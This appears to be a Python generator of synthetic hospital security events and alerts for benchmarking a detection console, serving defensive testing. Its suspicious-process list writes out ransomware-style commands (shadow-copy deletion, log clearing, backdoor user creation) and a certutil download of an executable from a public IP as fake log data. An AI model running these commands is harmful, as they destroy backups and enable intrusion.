"""The console benchmark's data set: 20 hospitals' events, alerts, triage states, cases and
users, built once into a folder and reused (see ``console.py``)."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import random
import shutil
import sys
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import orjson
from rich.console import Console
from rich.progress import BarColumn, MofNCompleteColumn, Progress, TextColumn, TimeElapsedColumn

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "src"))

import hygie.store.state.store as state_module  # noqa: E402
from hygie.core.alert import Alert  # noqa: E402
from hygie.store.events import EventStore, StoredEvent  # noqa: E402
from hygie.store.state.db import open_database, sqlite_dsn  # noqa: E402
from hygie.store.state.models import AlertRow  # noqa: E402
from hygie.store.state.store import RecordResult, StateStore  # noqa: E402

FORMAT = 1  # bump when the generator changes: an older data set is rebuilt
MANIFEST = "bench-console.json"
MARKER = ".hygie-bench-console"  # only a folder holding this is ever deleted by --rebuild
PASSWORD = "bench-console-password"  # benchmark data only
FLOOR_MS = 200.0
SLOT = timedelta(minutes=15)  # the store's clock advances by this while alerts are stored
STALE_AFTER = timedelta(days=1)
PACKS = REPO / "src" / "hygie" / "detect" / "packs"
console = Console(width=None if sys.stdout.isatty() else 160)  # a log keeps the table on one line per row

TENANTS = ("chu-nord", "chu-sud", "ch-annecy", "ch-chambery", "ch-valence", "ch-vienne",
           "chu-grenoble", "ch-bourg", "ch-roanne", "ch-montelimar", "ch-voiron",
           "clinique-belledonne", "ch-aubenas", "ch-romans", "ch-albertville", "ch-thonon",
           "ch-sallanches", "ch-privas", "ehpad-les-tilleuls", "ch-briancon")
ANALYST_TENANTS = (0, 4, 8, 12, 16)  # a large, middling and small hospitals

# SigmaHQ-like rules besides Hygie's own packs: (title, level, tags, event shape)
EXTRA_RULES = (
    ("Suspicious Encoded PowerShell Command Line", "high", ("attack.execution", "attack.t1059.001"), "process"),
    ("Potential Mimikatz Command Line", "high", ("attack.credential_access", "attack.t1003.001"), "process"),
    ("Rundll32 Execution Without DLL File", "high", ("attack.defense_evasion", "attack.t1218.011"), "process"),
    ("Scheduled Task Creation Via Schtasks.EXE", "low", ("attack.persistence", "attack.t1053.005"), "process"),
    ("New User Created Via Net.EXE", "medium", ("attack.persistence", "attack.t1136.001"), "process"),
    ("Local Accounts Discovery", "low", ("attack.discovery", "attack.t1087.001"), "process"),
    ("Whoami Utility Execution", "low", ("attack.discovery", "attack.t1033"), "process"),
    ("PsExec Service Installation", "medium", ("attack.execution", "attack.t1569.002"), "process"),
    ("Failed Logon From Public IP", "medium", ("attack.initial_access", "attack.t1078"), "logon_failed"),
    ("Multiple Failed Logons for One Account", "medium", ("attack.credential_access", "attack.t1110"), "logon_failed"),
    ("External Remote RDP Logon from Public IP", "high", ("attack.lateral_movement", "attack.t1021.001"), "logon"),
    ("Outbound Connection to Tor Exit Node", "high", ("attack.command_and_control", "attack.t1090.003"), "firewall"),
    ("Firewall Denied Inbound SMB", "low", ("attack.initial_access", "attack.t1190"), "firewall"),
    ("Port Scan Seen by the Firewall", "medium", ("attack.discovery", "attack.t1046"), "firewall"),
    ("DNS Query for Dynamic DNS Domain", "medium", ("attack.command_and_control", "attack.t1568"), "dns"),
    ("File Download Via Certutil.EXE", "high", ("attack.command_and_control", "attack.t1105"), "process"),
    ("File Download Via Bitsadmin", "medium", ("attack.command_and_control", "attack.t1105"), "process"),
    ("WMIC Remote Command Execution", "medium", ("attack.execution", "attack.t1047"), "process"),
    ("LSASS Process Memory Dump Files", "high", ("attack.credential_access", "attack.t1003.001"), "file"),
    ("Suspicious Microsoft Office Child Process", "high", ("attack.execution", "attack.t1204.002"), "process"),
    ("Script Interpreter Execution From Temp Folder", "medium", ("attack.execution", "attack.t1059"), "process"),
    ("Network Connection Initiated By Regsvr32.EXE", "medium", ("attack.command_and_control", "attack.t1071"), "network"),
    ("New Service Creation Using Sc.EXE", "informational", ("attack.persistence", "attack.t1543.003"), "process"),
    ("Audit Policy Tampering Via Auditpol", "medium", ("attack.defense_evasion", "attack.t1562.002"), "process"),
    ("Windows Defender Real-Time Protection Disabled", "high", ("attack.defense_evasion", "attack.t1562.001"), "process"),
    ("Remote Access Tool - AnyDesk Execution", "medium", ("attack.command_and_control", "attack.t1219"), "process"),
    ("Access To ADMIN$ Network Share", "low", ("attack.lateral_movement", "attack.t1021.002"), "logon"),
    ("Kerberoasting Activity - Initial Query", "high", ("attack.credential_access", "attack.t1558.003"), "logon"),
    ("Large Outbound Transfer Seen by the Firewall", "medium", ("attack.exfiltration", "attack.t1048"), "firewall"),
    ("SSH Brute Force From One Address", "medium", ("attack.credential_access", "attack.t1110.001"), "sshd"),
)

FIRST = ("jean", "marie", "pierre", "sophie", "luc", "claire", "nicolas", "julie", "thomas", "camille",
         "antoine", "lea", "paul", "manon", "hugo", "chloe", "louis", "emma", "arthur", "ines")
LAST = ("martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy",
        "moreau", "simon", "laurent", "lefebvre", "michel", "garcia", "david", "bertrand", "roux",
        "vincent", "fournier", "morel", "girard", "andre", "mercier", "dupont", "lambert")
SERVICE_ACCOUNTS = ("svc-veeam", "svc-sql", "svc-backup", "svc-pacs", "svc-dpi", "svc-scan", "administrateur")
SERVER_ROLES = ("DC01", "DC02", "FS01", "SQL01", "SQL02", "RDS01", "RDS02", "VEEAM01", "PACS01", "DPI01",
                "EXCH01", "WSUS01", "PRINT01", "LAB01", "HL7GW01", "AV01")
BENIGN_PROCESSES = (
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=fr'),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "\\FS01\services\compte-rendu.docx"'),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
    (r"C:\Program Files\DxCare\DxCare.exe", r'"C:\Program Files\DxCare\DxCare.exe" /site:{site}'),
    (r"C:\Program Files (x86)\Carestream\PACS\Viewer.exe", r'"C:\Program Files (x86)\Carestream\PACS\Viewer.exe" -study 1.2.250.1.{n}'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -NoProfile -File C:\Scripts\inventaire.ps1"),
    (r"C:\Windows\System32\gpupdate.exe", r"gpupdate.exe /target:computer"),
    (r"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Manager.exe", r'"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Manager.exe" startbackupjob /jobname:"Srv-FS01"'),
    (r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V"),
)
SUSPICIOUS_PROCESSES = (
    (r"C:\Windows\System32\vssadmin.exe", r"vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\wbadmin.exe", r"wbadmin delete catalog -quiet"),
    (r"C:\Windows\System32\bcdedit.exe", r"bcdedit /set {default} recoveryenabled No"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    (r"C:\Windows\System32\certutil.exe", r"certutil.exe -urlcache -split -f http://185.220.101.4/a.exe C:\Users\Public\a.exe"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Users\Public\x.dat,Start"),
    (r"C:\Windows\System32\net.exe", r"net user helpdesk P@ssw0rd! /add"),
    (r"C:\Windows\System32\whoami.exe", r"whoami /all"),
    (r"C:\Windows\System32\schtasks.exe", r'schtasks /create /tn "Updater" /tr C:\ProgramData\upd.exe /sc minute /mo 30'),
    (r"C:\Windows\System32\wevtutil.exe", r"wevtutil cl Security"),
    (r"C:\Windows\System32\wbem\WMIC.exe", r"wmic /node:10.20.1.15 process call create cmd.exe"),
    (r"C:\ProgramData\AnyDesk.exe", r"C:\ProgramData\AnyDesk.exe --start-with-win --silent"),
)
DOMAINS = ("www.google.com", "outlook.office365.com", "update.microsoft.com", "sante.gouv.fr",
           "ameli.fr", "teams.microsoft.com", "dmp.fr", "mssante.fr", "cdn.jsdelivr.net", "crl.sectigo.com")
SUSPICIOUS_DOMAINS = ("x7k2.duckdns.org", "upd-srv.no-ip.biz", "c2.ddns.net")
PUBLIC_IPS = ("185.220.101.4", "45.155.205.233", "193.32.162.70", "91.240.118.172", "80.94.95.81",
              "141.98.10.63", "5.188.206.14", "194.26.29.102")


@dataclasses.dataclass(frozen=True, slots=True)
class Rule:
    rule_id: str
    title: str
    level: str
    tags: tuple[str, ...]
    shape: str
    pack: str
    kind: str
    path: str = ""


@dataclasses.dataclass(slots=True)
class Params:
    events: int
    alerts: int
    tenants: int
    days: int
    seed: int

    def key(self) -> dict[str, int]:
        return {"format": FORMAT, **dataclasses.asdict(self)}


# -- the data set ------------------------------------------------------------------------------
def rule_catalogue() -> list[Rule]:
    """Hygie's own pack rules (not the base rules of correlations, which raise nothing), and
    SigmaHQ-like rules, each with the shape of event it fires on."""
    import yaml

    rules: list[Rule] = []
    for path in sorted(PACKS.rglob("*.yml")):
        for doc in yaml.safe_load_all(path.read_text(encoding="utf-8")):
            if not isinstance(doc, dict) or "title" not in doc or "(Base Rule)" in str(doc["title"]):
                continue
            source = doc.get("logsource") or {}
            shape = _shape(source.get("product"), source.get("category"), source.get("service"))
            rules.append(Rule(str(doc.get("id") or doc.get("name")), str(doc["title"]),
                              str(doc.get("level") or "medium"), tuple(doc.get("tags") or ()), shape,
                              f"hygie-{path.parent.name}", "correlation" if "correlation" in doc else "sigma",
                              str(path)))
    for number, (title, level, tags, shape) in enumerate(EXTRA_RULES):
        rules.append(Rule(f"bench-{number:04d}-{title.lower().replace(' ', '-')[:40]}", title, level,
                          tags, shape, "sigmahq", "sigma"))
    return rules


def _shape(product: Any, category: Any, service: Any) -> str:
    if category in ("firewall",) or product == "fortigate":
        return "firewall"
    if product in ("dicom", "fhir", "hl7"):
        return "health"
    if product == "linux":
        return "sshd"
    if category == "file_event":
        return "file"
    if service in ("security", "system"):
        return "logon_failed"
    return "process"


class Tenant:
    """One hospital: its hosts, users, firewall and networks."""

    def __init__(self, index: int, tenant_id: str, rng: random.Random, weight: float) -> None:
        self.id = tenant_id
        self.code = "".join(part[:3] for part in tenant_id.upper().split("-"))[:8]
        self.domain = self.code[:6]
        self.weight = weight
        net = 10 + index
        size = max(40, int(600 * weight))
        self.workstations = [f"{self.code}-PC{n:04d}" for n in range(size)]
        self.servers = [f"{self.code}-SRV-{role}" for role in SERVER_ROLES]
        self.hosts = self.workstations + self.servers
        self.firewall = f"{self.code}-FW01"
        self.users = sorted({f"{rng.choice(FIRST)}.{rng.choice(LAST)}" for _ in range(size)})
        self.ip = {host: f"10.{net}.{1 + n // 250}.{1 + n % 250}" for n, host in enumerate(self.hosts)}


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def make_event(rng: random.Random, tenant: Tenant, shape: str, moment: datetime, suspicious: bool,
               host: str | None = None) -> tuple[str, str | None, str, dict[str, Any], bytes, dict[str, Any]]:
    """(kind, host, source, fields, raw, matched) of one record of ``shape``."""
    if shape == "firewall":
        return _firewall(rng, tenant, moment, suspicious)
    if shape == "sshd":
        host = host or rng.choice(tenant.servers)
        ip = rng.choice(PUBLIC_IPS)
        user = rng.choice(("root", "admin", "pacs", "oracle"))
        line = (f"<38>{moment:%b %d %H:%M:%S} {host} sshd[{rng.randint(1000, 65000)}]: Failed password "
                f"for {user} from {ip} port {rng.randint(20000, 65000)} ssh2")
        fields = {"host": host, "program": "sshd", "message": line.split(": ", 1)[1], "src_ip": ip,
                  "user": user, "outcome": "failure", "EventTime": _iso(moment)}
        return "syslog", host, "syslog/tcp:514", fields, line.encode(), {"src_ip": ip, "outcome": "failure"}
    if shape == "health":
        host = host or f"{tenant.code}-SRV-PACS01"
        event_id = rng.choice((110103, 110104, 110106, 110110, 110112))
        fields = {"EventID": event_id, "EventTime": _iso(moment), "Hostname": host,
                  "UserID": f"{rng.choice(tenant.users)}", "EventOutcomeIndicator": 4 if suspicious else 0,
                  "NetworkAccessPointID": tenant.ip[rng.choice(tenant.workstations)],
                  "ParticipantObjectID": f"1.2.250.1.{rng.randint(10**8, 10**9)}",
                  "AuditSourceID": f"{tenant.code}-PACS"}
        raw = (f'<AuditMessage><EventIdentification EventActionCode="R" EventDateTime="{_iso(moment)}" '
               f'EventOutcomeIndicator="{fields["EventOutcomeIndicator"]}"><EventID csd-code="{event_id}"/>'
               f'</EventIdentification></AuditMessage>').encode()
        return "atna", host, "syslog/tls:6514", fields, raw, {"EventID": event_id}
    host = host or (rng.choice(tenant.servers) if rng.random() < 0.2 else rng.choice(tenant.workstations))
    user = rng.choice(SERVICE_ACCOUNTS) if host in tenant.servers and rng.random() < 0.5 else rng.choice(tenant.users)
    base: dict[str, Any] = {"EventTime": _iso(moment), "Hostname": host}
    matched: dict[str, Any] = {}
    if shape in ("logon", "logon_failed"):
        failed = shape == "logon_failed" or rng.random() < 0.08
        source_ip = rng.choice(PUBLIC_IPS) if suspicious and rng.random() < 0.5 else tenant.ip[rng.choice(tenant.hosts)]
        base |= {"Channel": "Security", "EventID": 4625 if failed else 4624,
                 "SourceName": "Microsoft-Windows-Security-Auditing", "TargetUserName": user,
                 "TargetDomainName": tenant.domain, "LogonType": rng.choice(("2", "3", "3", "3", "10")),
                 "WorkstationName": rng.choice(tenant.workstations), "IpAddress": source_ip,
                 "IpPort": str(rng.randint(49152, 65535)), "LogonProcessName": rng.choice(("NtLmSsp", "Kerberos", "User32")),
                 "AuthenticationPackageName": rng.choice(("NTLM", "Kerberos", "Negotiate"))}
        if failed:
            base |= {"Status": "0xc000006d", "SubStatus": rng.choice(("0xc000006a", "0xc0000064")),
                     "FailureReason": "%%2313"}
        matched = {"EventID": base["EventID"], "IpAddress": source_ip}
    elif shape == "network":
        image = rng.choice(BENIGN_PROCESSES)[0]
        destination = rng.choice(PUBLIC_IPS) if suspicious else f"20.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        base |= {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3,
                 "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "User": f"{tenant.domain}\\{user}",
                 "Protocol": "tcp", "Initiated": "true", "SourceIp": tenant.ip[host],
                 "SourcePort": str(rng.randint(49152, 65535)), "DestinationIp": destination,
                 "DestinationPort": rng.choice(("443", "443", "80", "445", "3389", "8443"))}
        matched = {"Image": image, "DestinationIp": destination}
    elif shape == "dns":
        query = rng.choice(SUSPICIOUS_DOMAINS) if suspicious else rng.choice(DOMAINS)
        base |= {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22,
                 "SourceName": "Microsoft-Windows-Sysmon", "QueryName": query, "QueryStatus": "0",
                 "Image": rng.choice(BENIGN_PROCESSES)[0], "User": f"{tenant.domain}\\{user}"}
        matched = {"QueryName": query}
    elif shape == "file":
        target = (rf"C:\Users\{user}\AppData\Local\Temp\lsass.dmp" if suspicious
                  else rf"C:\Users\{user}\Documents\courrier-{rng.randint(1, 9999)}.docx")
        base |= {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11,
                 "SourceName": "Microsoft-Windows-Sysmon", "Image": rng.choice(BENIGN_PROCESSES)[0],
                 "TargetFilename": target, "User": f"{tenant.domain}\\{user}"}
        matched = {"TargetFilename": target}
    else:  # process creation: Sysmon 1 or Security 4688
        image, command = rng.choice(SUSPICIOUS_PROCESSES if suspicious else BENIGN_PROCESSES)
        command = command.replace("{site}", tenant.code).replace("{n}", str(rng.randint(10**6, 10**7)))
        parent = rng.choice((r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe",
                             r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe"))
        if rng.random() < 0.75:
            guid = f"{{{rng.getrandbits(128):032x}}}"
            base |= {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                     "SourceName": "Microsoft-Windows-Sysmon", "RuleName": "-",
                     "ProcessGuid": guid[:9] + "-" + guid[9:13] + "-" + guid[13:17] + "-" + guid[17:21] + "-" + guid[21:],
                     "ProcessId": rng.randint(100, 200000), "Image": image, "CommandLine": command,
                     "OriginalFileName": image.rsplit("\\", 1)[-1], "CurrentDirectory": rf"C:\Users\{user}\\",
                     "User": f"{tenant.domain}\\{user}", "IntegrityLevel": rng.choice(("Medium", "High", "System")),
                     "Hashes": f"SHA256={rng.getrandbits(256):064X}", "ParentImage": parent,
                     "ParentCommandLine": parent}
        else:
            base |= {"Channel": "Security", "EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing",
                     "NewProcessName": image, "CommandLine": command, "ParentProcessName": parent,
                     "SubjectUserName": user, "SubjectDomainName": tenant.domain,
                     "TokenElevationType": "%%1936"}
        matched = {"CommandLine": command}
    raw = orjson.dumps(base)
    return "json", host, "http:winlogbeat", base, raw, matched


def _firewall(rng: random.Random, tenant: Tenant, moment: datetime,
              suspicious: bool) -> tuple[str, str | None, str, dict[str, Any], bytes, dict[str, Any]]:
    inside = tenant.ip[rng.choice(tenant.hosts)]
    outside = rng.choice(PUBLIC_IPS) if suspicious else f"{rng.randint(20, 200)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    inbound = rng.random() < 0.3
    src, dst = (outside, inside) if inbound else (inside, outside)
    port = rng.choice((443, 443, 443, 80, 53, 445, 3389, 22, 25, 123))
    action = "deny" if inbound or (suspicious and rng.random() < 0.5) else rng.choice(("accept", "accept", "close"))
    fields = {"devname": tenant.firewall, "devid": f"FG100F{tenant.code}", "type": "traffic",
              "subtype": "forward", "level": "notice", "srcip": src, "srcport": rng.randint(1024, 65535),
              "dstip": dst, "dstport": port, "proto": 6 if port != 53 else 17, "action": action,
              "policyid": rng.randint(1, 120), "service": {443: "HTTPS", 80: "HTTP", 53: "DNS"}.get(port, f"tcp/{port}"),
              "sentbyte": rng.randint(40, 2_000_000), "rcvdbyte": rng.randint(40, 5_000_000),
              "EventTime": _iso(moment)}
    line = (f"<189>date={moment:%Y-%m-%d} time={moment:%H:%M:%S} " +
            " ".join(f"{k}={v}" for k, v in fields.items() if k != "EventTime"))
    return "syslog", tenant.firewall, "syslog/udp:514", fields, line.encode(), {"action": action, "dstip": dst}


BENIGN_SHAPES = (("process", 34), ("logon", 26), ("firewall", 22), ("network", 8), ("dns", 6), ("file", 3),
                 ("sshd", 0.5), ("health", 0.5))


def _split(total: int, weights: list[float]) -> list[int]:
    """``total`` in parts proportional to ``weights`` (largest remainders), summing exactly."""
    scale = sum(weights)
    raw = [total * w / scale for w in weights]
    parts = [int(x) for x in raw]
    for index in sorted(range(len(raw)), key=lambda i: raw[i] - parts[i], reverse=True)[:total - sum(parts)]:
        parts[index] += 1
    return parts


def build(data_dir: Path, params: Params) -> dict[str, Any]:
    """Write the data set into ``data_dir`` (emptied first); returns its manifest."""
    started = time.perf_counter()
    rng = random.Random(params.seed)
    now = datetime.now(timezone.utc).replace(microsecond=0)
    start = now - timedelta(days=params.days)
    tenant_ids = [TENANTS[i] if i < len(TENANTS) else f"hopital-{i:02d}" for i in range(params.tenants)]
    weights = [1.0 / (i + 1) ** 0.8 for i in range(params.tenants)]  # a few large hospitals, many small
    tenants = [Tenant(i, t, random.Random(params.seed * 1000 + i), w / max(weights))
               for i, (t, w) in enumerate(zip(tenant_ids, weights))]
    rules = rule_catalogue()
    noise = list(range(len(rules)))
    rng.shuffle(noise)
    rule_weights = [1.0 / (rank + 1) ** 0.9 for rank in noise]  # a few noisy rules, a long tail
    day_weights = [(0.55 if (start + timedelta(days=d)).weekday() >= 5 else 1.0) for d in range(params.days)]
    cells = [(d, t) for d in range(params.days) for t in range(params.tenants)]
    cell_weights = [day_weights[d] * tenants[t].weight for d, t in cells]
    # bursts: most alerts stand alone, some repeat on the same host within minutes (grouped)
    burst_sizes = [1] * 90 + [2, 2, 2, 3, 3, 4, 5, 6, 8, 12]  # 1.37 hits per alert on average
    group_cells = _split(params.alerts, cell_weights)
    event_cells = _split(params.events, cell_weights)

    engine = open_database(sqlite_dsn(data_dir / "state.db"))
    state = StateStore(engine)
    for tenant in tenants:
        state.ensure_tenant(tenant.id, tenant.id.replace("-", " ").title())
    events = EventStore(data_dir / "events")
    clock = [now]
    real_now = state_module._now
    state_module._now = lambda: clock[0]  # the store stamps first/last seen with its clock
    counter = debt = 0
    alert_results = 0
    try:
        with _progress() as progress:
            task_events = progress.add_task("events (event store)", total=params.events)
            task_alerts = progress.add_task("alerts (state store)", total=params.alerts)
            for day in range(params.days):
                day_start = start + timedelta(days=day)
                day_results: list[tuple[datetime, RecordResult]] = []
                for t, tenant in enumerate(tenants):
                    cell = day * params.tenants + t
                    stored: list[StoredEvent] = []
                    for _group in range(group_cells[cell]):
                        rule = rules[rng.choices(range(len(rules)), rule_weights)[0]]
                        size = rng.choice(burst_sizes) if rule.kind != "correlation" else 1
                        first = day_start + timedelta(seconds=rng.random() * 86400)
                        host = None
                        for member in range(size):
                            moment = min(first + timedelta(seconds=member * rng.uniform(5, 40)), now)
                            kind, host, source, fields, raw, matched = make_event(
                                rng, tenant, rule.shape, moment, True, host)
                            counter += 1
                            key = hashlib.sha256(f"{tenant.id}/{counter}".encode()).hexdigest()
                            received = moment.timestamp() + rng.uniform(0.2, 4.0)
                            stored.append(StoredEvent(tenant.id, key, received, fields["EventTime"], host,
                                                      source, kind, fields, raw))
                            alert = Alert(rule_id=rule.rule_id, title=rule.title, level=rule.level,
                                          tags=list(rule.tags), time=fields["EventTime"], host=host, source=source,
                                          offset=0, matched=matched, pack=rule.pack, kind=rule.kind)
                            day_results.append((first, RecordResult(
                                tenant=tenant.id, record_key=key, source=source, kind=kind, received=received,
                                alerts=[alert], event=fields, event_time=fields["EventTime"], host=host,
                                payload=raw)))
                    benign = event_cells[cell] - len(stored) - debt  # exactly --events in all
                    debt = max(0, -benign)
                    benign = max(0, benign)
                    shapes, shape_weights = zip(*BENIGN_SHAPES)
                    for _n in range(benign):
                        moment = day_start + timedelta(seconds=rng.random() * 86400)
                        if moment > now:
                            moment = now - timedelta(seconds=rng.random() * 3600)
                        shape = rng.choices(shapes, shape_weights)[0]
                        kind, host, source, fields, raw, _matched = make_event(
                            rng, tenant, shape, moment, rng.random() < 0.002)
                        counter += 1
                        key = hashlib.sha256(f"{tenant.id}/{counter}".encode()).hexdigest()
                        stored.append(StoredEvent(tenant.id, key, moment.timestamp() + rng.uniform(0.2, 4.0),
                                                  fields["EventTime"], host, source, kind, fields, raw))
                    stored.sort(key=lambda e: e.received)
                    half = len(stored) // 2  # two files per partition written by the day, as batches do
                    for chunk in (stored[:half], stored[half:]):
                        if chunk:
                            events.append(chunk)
                    progress.advance(task_events, len(stored))
                # alerts in time order, one store_results per 15-minute slot with the clock there
                day_results.sort(key=lambda pair: pair[0])
                slot_results: dict[int, list[RecordResult]] = {}
                for first, result in day_results:
                    slot_results.setdefault(int((first - start) / SLOT), []).append(result)
                for slot in sorted(slot_results):
                    clock[0] = min(start + (slot + 1) * SLOT, now)
                    batch = slot_results[slot]
                    created, _grouped = state.store_results(batch)
                    alert_results += len(batch)
                    progress.advance(task_alerts, created)
            task_misc = progress.add_task("compaction, triage states, cases, users", total=5)
            report = events.compact(now)
            progress.advance(task_misc)
            _triage_states(engine, now, rng)
            progress.advance(task_misc)
            _quarantine(state, tenants, start, now, rng)
            progress.advance(task_misc)
            _cases_and_comments(engine, tenant_ids, now, rng)
            progress.advance(task_misc)
            users = _users(engine, tenant_ids)
            progress.advance(task_misc)
    finally:
        state_module._now = real_now
    with engine.connect() as connection:
        from sqlalchemy import text
        alert_rows = connection.execute(text("SELECT count(*) FROM alerts")).scalar_one()
        grouped_rows = connection.execute(text("SELECT count(*) FROM alerts WHERE count > 1")).scalar_one()
        connection.execute(text("PRAGMA wal_checkpoint(TRUNCATE)"))  # no ANALYZE: the service runs none
        connection.commit()
    engine.dispose()
    files = sum(1 for _ in (data_dir / "events").rglob("*.parquet"))
    manifest = {
        "params": params.key(), "built": now.isoformat(), "build_s": round(time.perf_counter() - started, 1),
        "events": params.events, "alert_results": alert_results, "alert_rows": alert_rows,
        "grouped_alert_rows": grouped_rows, "rules": len(rules), "tenants": tenant_ids,
        "analyst_tenants": [tenant_ids[i] for i in ANALYST_TENANTS if i < len(tenant_ids)],
        "users": users, "event_files": files, "files_merged": report.files_merged,
        "event_bytes": events.size_bytes(), "state_db_bytes": (data_dir / "state.db").stat().st_size,
    }
    events.close()
    (data_dir / MANIFEST).write_text(json.dumps(manifest, indent=1))
    return manifest


def _progress() -> Progress:
    return Progress(TextColumn("{task.description:<44}"), BarColumn(), MofNCompleteColumn(),
                    TimeElapsedColumn(), console=console)


def _triage_states(engine: Any, now: datetime, rng: random.Random) -> None:
    """Most alerts older than two days closed, recent ones mostly new: a SOC that keeps up.
    Written straight to this benchmark's database (the workflow would audit 100k changes)."""
    from sqlalchemy import bindparam, select, update
    from sqlalchemy.orm import Session

    table = AlertRow.__table__
    reasons = ("false_positive", "false_positive", "benign", "benign", "true_positive")
    analysts = ("bench-analyst", "m.durand", "l.petit", None)
    with Session(engine) as session, session.begin():
        rows = session.execute(select(AlertRow.id, AlertRow.last_seen)).all()
        changes = []
        for alert_id, last_seen in rows:
            seen = last_seen if last_seen.tzinfo else last_seen.replace(tzinfo=timezone.utc)
            age = now - seen
            draw = rng.random()
            if age > timedelta(days=2):
                status = "closed" if draw < 0.9 else ("in_progress" if draw < 0.95 else "acknowledged")
            else:
                status = ("new" if draw < 0.55 else "acknowledged" if draw < 0.75 else
                          "in_progress" if draw < 0.85 else "closed")
            if status == "new":
                continue
            acknowledged = seen + timedelta(minutes=rng.uniform(2, 240))
            changes.append({"alert_id": alert_id, "status": status, "acknowledged": acknowledged,
                            "closed": acknowledged + timedelta(minutes=rng.uniform(5, 600)) if status == "closed" else None,
                            "reason": rng.choice(reasons) if status == "closed" else None,
                            "assignee": rng.choice(analysts)})
        for chunk in range(0, len(changes), 5000):
            session.execute(update(table).where(table.c.id == bindparam("alert_id")).values(
                status=bindparam("status"), acknowledged=bindparam("acknowledged"),
                closed=bindparam("closed"), close_reason=bindparam("reason"),
                assignee=bindparam("assignee")), changes[chunk:chunk + 5000])


def _quarantine(state: StateStore, tenants: list[Tenant], start: datetime, now: datetime,
                rng: random.Random) -> None:
    results = []
    for number in range(2000):
        tenant = rng.choice(tenants)
        moment = start + (now - start) * rng.random()
        results.append(RecordResult(tenant=tenant.id, record_key=hashlib.sha256(f"q{number}".encode()).hexdigest(),
                                    source="syslog/udp:514", kind="syslog", received=moment.timestamp(),
                                    quarantine_reason="no parser for this syslog message",
                                    payload=f"<13>{tenant.firewall} garbled \x00 line {number}".encode()))
    state.store_results(results)


def _cases_and_comments(engine: Any, tenant_ids: list[str], now: datetime, rng: random.Random) -> None:
    """300 cases over recent high alerts (1-3 alerts each, one hospital), 500 comments."""
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    from hygie.respond.cases import add_note, create_case
    from hygie.store.state.triage import add_comment

    with Session(engine) as session:
        candidates = session.execute(select(AlertRow.id, AlertRow.tenant_id).where(
            AlertRow.level.in_(("high", "critical")), AlertRow.last_seen >= now - timedelta(days=10))).all()
    by_tenant: dict[str, list[int]] = {}
    for alert_id, tenant in candidates:
        by_tenant.setdefault(tenant, []).append(alert_id)
    pools = [ids for ids in by_tenant.values() if ids]
    if not pools:
        return
    for _number in range(300):
        pool = rng.choice(pools)
        ids = sorted(set(rng.sample(pool, min(len(pool), rng.randint(1, 3)))))
        case_id = create_case(engine, None, ids, "bench-analyst")
        if case_id is not None:
            add_note(engine, None, case_id, "Poste isolé du réseau, en attente du retour de l'équipe IT.",
                     "bench-analyst")
    everything = [alert_id for ids in pools for alert_id in ids]
    for _number in range(500):
        add_comment(engine, None, rng.choice(everything), "Vu avec le référent informatique de l'hôpital.",
                    "bench-analyst")


def _users(engine: Any, tenant_ids: list[str]) -> dict[str, dict[str, Any]]:
    from hygie.store.state.access import AccessStore

    access = AccessStore(engine)
    analyst = [tenant_ids[i] for i in ANALYST_TENANTS if i < len(tenant_ids)]
    users = {"bench-admin": ("admin", []), "bench-analyst": ("analyst", analyst),
             "bench-hospital": ("hospital", [tenant_ids[0]])}
    for username, (role, tenants) in users.items():
        access.create_user(username, PASSWORD, role, tenants, "bench")
    return {name: {"role": role, "tenants": tenants} for name, (role, tenants) in users.items()}


def data_set(data_dir: Path, params: Params, rebuild: bool, reuse_stale: bool) -> tuple[dict[str, Any], bool]:
    """The manifest of a usable data set in ``data_dir``, built if needed; (manifest, built)."""
    manifest_path = data_dir / MANIFEST
    if manifest_path.exists() and not rebuild:
        manifest = json.loads(manifest_path.read_text())
        age = datetime.now(timezone.utc) - datetime.fromisoformat(manifest["built"])
        if manifest.get("params") == params.key() and (age < STALE_AFTER or reuse_stale):
            return manifest, False
        why = "other parameters" if manifest.get("params") != params.key() else f"built {age} ago"
        console.print(f"[yellow]Rebuilding the data set in {data_dir} ({why}).[/yellow]")
    if data_dir.exists() and any(data_dir.iterdir()):
